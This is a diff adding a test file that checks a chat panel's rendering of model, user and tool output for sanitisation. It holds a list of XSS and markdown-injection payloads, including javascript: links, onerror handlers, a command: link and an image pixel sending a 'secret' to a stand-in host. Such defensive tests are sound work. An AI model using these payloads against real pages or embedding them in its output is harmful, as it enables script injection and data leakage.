@@ -1,0 +1,52 @@
+import assert from 'node:assert/strict';
+import { chat, text, tool, user } from './support/chats';
+import { panelSuite } from './support/panelSuite';
+
+const ATTACKS = [
+  '<img src=x onerror="window.hacked = 1">',
+  '<script>window.hacked = 1</script>',
+  '<svg/onload=window.hacked=1>',
+  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  'inline <b onmouseover="window.hacked=1">bold</b> html',
+  '[click](javascript:window.hacked=1)',
+  '[click](<java\tscript:window.hacked=1>)',
+  '[click](command:workbench.action.quit)',
+  '[click](data:text/html,<script>1</script>)',
+  '![remote](https://evil.test/pixel.png?secret)',
+  '![x](javascript:window.hacked=1)',
+  '<a href="javascript:window.hacked=1">click</a>',
+  '```html\n<script>window.hacked=1</script>\n```',
+  '"><img src=x onerror=window.hacked=1>',
+  '[a"onmouseover="window.hacked=1](https://example.com/"onmouseover="window.hacked=1)',
+  '| <img src=x onerror=window.hacked=1> |\n| --- |\n| <script>window.hacked=1</script> |',
+  '<style>body { display: none }</style>\n\n<div style="position:fixed;inset:0">cover</div>',
+];
+
+describe('What a model writes', () => {
+  const open = panelSuite();
+
+  it('runs nothing, loads nothing and leads nowhere else', async () => {
+    const attacks = ATTACKS.join('\n\n');
+    const entries = [
+      user('u', attacks),
+      text('t', attacks),
+      tool('x', { status: 'error', title: attacks.slice(0, 200), output: attacks }),
+    ];
+    const { page } = await open({ state: chat({ entries, title: '<img src=x onerror=window.hacked=1>' }) });
+    await page.locator('article[data-kind=text]').waitFor();
+    assert.equal(await page.evaluate('window.hacked'), undefined);
+    const bad = 'main :is(img, script, style, iframe, svg, [style], [onerror], [onmouseover], [onload], [srcdoc])';
+    assert.equal(await page.locator(bad).count(), 0);
+    const links = await page.locator('main a').evaluateAll('(all) => all.map((a) => a.getAttribute("href"))');
+    assert.ok(Array.isArray(links) && links.length > 0);
+    for (const href of links) assert.match(String(href), /^(https:\/\/|#$)/);
+  });
+
+  it('shows raw HTML as text and an image as a link', async () => {
+    const source = 'Use <b>bold</b>.\n\n<div>block</div>\n\n![a plot](https://example.com/plot.png)';
+    const { page } = await open({ state: chat({ entries: [text('t', source)] }) });
+    await page.getByText('Use <b>bold</b>.').waitFor();
+    await page.getByText('<div>block</div>').waitFor();
+    assert.equal(await page.getByRole('link', { name: 'a plot' }).getAttribute('href'), 'https://example.com/plot.png');
+  });
+});
